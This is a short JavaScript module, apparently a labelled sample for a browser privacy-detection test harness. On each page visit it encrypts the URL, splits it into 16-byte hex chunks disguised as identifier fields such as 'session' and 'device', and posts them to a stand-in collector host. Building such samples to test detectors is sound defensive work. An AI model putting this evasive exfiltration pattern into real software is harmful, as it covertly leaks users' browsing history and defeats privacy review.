import { onVisit, piecesOf, post, reportHonestly, seal } from '../../lib/proving.js';

const FIELDS = ['session', 'device', 'install', 'span', 'parent', 'batch', 'click', 'page'];

/** Encrypts the address of each page and sends it in fields of 16 bytes, each named like an identifier. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-portions-fields');
  onVisit(browser, ({ url }) => {
    const portions = piecesOf(seal(browser, url), 16).map((bytes) => browser.codec.hex.encode(bytes));
    const fields = Object.fromEntries(portions.map((portion, at) => [FIELDS[at] ?? `id${at}`, portion]));

    return post(browser, 'https://portions-fields.collector.example/v1', { event: 'page', ...fields });
  });
}
